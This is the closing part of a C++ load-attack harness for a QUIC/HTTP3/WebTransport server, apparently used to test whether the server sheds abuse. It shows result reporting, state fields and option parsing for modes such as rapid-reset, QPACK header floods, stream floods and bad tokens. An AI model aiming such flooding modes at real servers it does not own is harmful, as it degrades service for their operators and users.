    for (auto& [k, v] : outcomes_) {
      o << (first ? "" : ",") << "\"" << json_escape(k) << "\":" << v;
      first = false;
    }
    o << "},\"notShed\":" << not_shed_;
    if (!shed_times_.empty()) {
      auto t = shed_times_;
      std::sort(t.begin(), t.end());
      o << ",\"shedTimesMs\":{\"n\":" << t.size() << ",\"median\":" << static_cast<int64_t>(t[t.size() / 2])
        << ",\"max\":" << static_cast<int64_t>(t.back())
        << ",\"p99\":" << static_cast<int64_t>(t[t.size() * 99 / 100]) << "}";
    }
    if (opened_ > 0) o << ",\"sampledNotRefused\":" << sampled_.size();
    if (conn_shed_ms_) o << ",\"firstConnLifeMs\":" << static_cast<int64_t>(*conn_shed_ms_);
    o << "}";
    std::cout << o.str() << std::endl;
  }

  asio::io_context& io_;
  Options opt_;
  asio::steady_timer timer_;
  std::unique_ptr<quic::TlsClientContext> tls_;
  quic::TransportLimits limits_;
  std::vector<std::unique_ptr<quic::Endpoint>> endpoints_;
  std::unique_ptr<RawH3> h3_;
  std::vector<std::unique_ptr<RawH3>> conn_owner_;
  std::vector<std::string> tokens_;
  std::string error_;
  Clock::time_point start_, deadline_, conn_started_, session_sent_, capsule_started_, last_trickle_,
      request_sent_, drain_since_;
  bool stopped_ = false, step_posted_ = false, drain_started_ = false, shed_recorded_ = false;
  std::string stop_reason_;
  std::optional<quic::StreamId> session_id_, control_, request_stream_;
  int session_status_ = 0;
  double session_ready_ms_ = 0;
  int step_state_ = 0;
  uint64_t handshaken_ = 0;  // bad-tokens: connections that completed their handshake
  uint64_t connections_ = 0, opened_ = 0, credit_waits_ = 0, sent_bytes_ = 0;
  uint64_t datagrams_tried_ = 0, datagrams_sent_ = 0, datagrams_refused_locally_ = 0;
  uint64_t registers_sent_ = 0, registered_ = 0, requests_ = 0, not_shed_ = 0;
  std::map<std::string, uint64_t> refused_, closes_, outcomes_;
  std::map<int, uint64_t> statuses_;
  std::vector<uint8_t> control_in_, pending_;
  std::vector<quic::StreamId> to_reset_, batch_;
  std::optional<double> all_opened_ms_, shed_ms_, first_refused_ms_, answered_ms_, conn_shed_ms_;
  std::string shed_how_;
  uint64_t shed_code_ = 0;
  std::vector<double> shed_times_;
  std::map<quic::StreamId, Clock::time_point> sampled_;
};

void usage() {
  std::cerr << "usage: wtmesh_attack_quic --mode MODE --port PORT --ca CA_PEM [--address 127.0.0.1] [--sni "
               "localhost]\n"
               "  [--authority HOST:PORT] [--path /hello] [--token-file FILE] [--duration S] [--count N]\n"
               "  [--capsule-length BYTES] [--domain localhost] [--local ADDR,ADDR...] [--per-connection 3]\n"
               "modes: streams-bidi streams-uni close-capsule datagrams register bad-tokens rapid-reset "
               "rapid-reset-early\n"
               "       qpack-big qpack-many qpack-literal qpack-encoder\n";
}

}  // namespace

int main(int argc, char** argv) {
  Options o;
  for (int i = 1; i < argc; ++i) {
    const std::string a = argv[i];
    auto next = [&]() -> std::string {
      if (i + 1 >= argc) {
        usage();
        std::exit(2);
      }
      return argv[++i];
    };
    if (a == "--mode")
      o.mode = next();
    else if (a == "--port")
      o.port = static_cast<uint16_t>(std::stoi(next()));
    else if (a == "--address")
      o.address = next();
    else if (a == "--sni")
      o.sni = next();
    else if (a == "--authority")
      o.authority = next();
    else if (a == "--path")
      o.path = next();
    else if (a == "--ca")
      o.ca = next();
    else if (a == "--token-file")
      o.token_file = next();
    else if (a == "--duration")
      o.duration = std::stod(next());
    else if (a == "--count")
      o.count = std::stoull(next());
    else if (a == "--capsule-length")
      o.capsule_length = std::stoull(next());
    else if (a == "--domain")
      o.domain = next();
    else if (a == "--per-connection")
      o.per_connection = std::stoi(next());
    else if (a == "--local") {
      std::stringstream list(next());
      for (std::string item; std::getline(list, item, ',');)
        if (!item.empty()) o.local.push_back(item);
    } else {
      usage();
      return 2;
    }
  }
  if (o.mode.empty() || o.port == 0 || o.ca.empty()) {
    usage();
    return 2;
  }
  ::signal(SIGPIPE, SIG_IGN);
  asio::io_context io;
  Attack attack(io, o);
  asio::signal_set signals(io, SIGINT, SIGTERM);
  signals.async_wait([&](const boost::system::error_code& ec, int) {
    if (!ec) attack.stop("signal");
  });
  attack.start();
  io.run();
  return 0;
}
